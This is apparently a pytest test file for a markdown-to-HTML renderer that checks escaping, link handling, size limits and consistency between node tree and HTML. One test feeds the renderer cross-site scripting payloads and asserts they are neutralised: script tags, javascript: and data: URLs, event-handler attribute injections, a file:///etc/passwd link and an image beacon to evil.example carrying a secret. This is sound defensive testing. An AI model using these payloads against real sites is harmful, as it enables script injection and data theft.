"""What a model says may look like something, and can do nothing."""

from __future__ import annotations

import re
from html import escape
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from halext_web import markdown
from halext_web.markdown import EMPTY_TAGS, TAGS, Node

LINK = 'target="_blank" rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain & <b>simple</b>", "<p>plain &amp; &lt;b&gt;simple&lt;/b&gt;</p>\n"),
        ("an old\ncomputer", "<p>an old<br>\ncomputer</p>\n"),
        ("# T\n\n**b** *i* ~~s~~ `c`", "<h1>T</h1>\n<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
        ("```py\n<x>\n```", "<pre><code>&lt;x&gt;\n</code></pre>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
        ('[a](https://b.example "t")', f'<p><a href="https://b.example" title="t" {LINK}>a</a></p>\n'),
        ("![a picture](https://b.example/p.png)", f'<p><a href="https://b.example/p.png" {LINK}>a picture</a></p>\n'),
        ("![](https://b.example)", f'<p><a href="https://b.example" {LINK}>https://b.example</a></p>\n'),
        ("www.example.org", "<p>www.example.org</p>\n"),
    ],
)
def test_what_it_looks_like(text: str, html: str) -> None:
    assert markdown.html(text).__html__() == html


def test_a_table() -> None:
    html = markdown.html("| a | b |\n|:-:|--:|\n| 1 | <i> |")
    assert "<th>a</th>" in html
    assert "<td>&lt;i&gt;</td>" in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](  JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        '![x" onerror="alert(1)](https://b.example)',
        '[x](https://b.example "\\" onmouseover=alert(1)")',
        '![x](<https://b.example/" onload="alert(1)>)',
        "<img src=https://evil.example/?q=secret>",
        '<div hx-get="/hx/nodes" style="position:fixed">',
        '```"><script>alert(1)</script>\nx\n```',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_it_can_do_nothing(text: str) -> None:
    html = markdown.html(text)
    for tag, attributes in re.findall(r"<(\w+)([^>]*)>", html):
        assert tag in TAGS
        names = re.findall(r'\s([\w-]+)="', attributes)
        assert set(names) <= {"href", "title", "target", "rel"}
    for address in re.findall(r'href="([^"]*)"', html):
        assert address.startswith("https://b.example")


@pytest.mark.parametrize("text", ["x" * 40_001, "[" * 2_001], ids=["too long", "too many brackets"])
def test_what_would_take_too_long_is_shown_as_it_stands(text: str) -> None:
    assert markdown.html(text) == f"<pre>{text}</pre>"
    assert markdown.nodes(text) == [["pre", {}, text]]


def test_a_tree_has_names_attributes_and_texts() -> None:
    assert markdown.nodes("a **b**\n\n---") == [["p", {}, "a ", ["strong", {}, "b"]], "\n", ["hr", {}], "\n"]
    found: list[Any] = markdown.nodes("[x](https://b.example/?a=1&b=2)")
    tag, attributes, inside = found[0][2]
    assert (tag, inside) == ("a", "x")
    assert attributes["href"] == "https://b.example/?a=1&b=2"


def written(node: Node) -> str:
    if isinstance(node, str):
        return escape(node, quote=False).replace("\xa0", "&nbsp;")
    tag, attributes, *inside = node
    head = "".join(f' {name}="{value}"' for name, value in attributes.items())
    return f"<{tag}{head}>" + ("" if tag in EMPTY_TAGS else "".join(map(written, inside)) + f"</{tag}>")


@given(
    st.lists(st.sampled_from([*"a\n -*_`~>#|:1.<&!=", "[a]", "(b)", "](", "\n\n", "```", "<b>", "\xa0"]), max_size=40)
)
def test_the_tree_is_the_html(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert "".join(map(written, markdown.nodes(text))) == markdown.html(text)
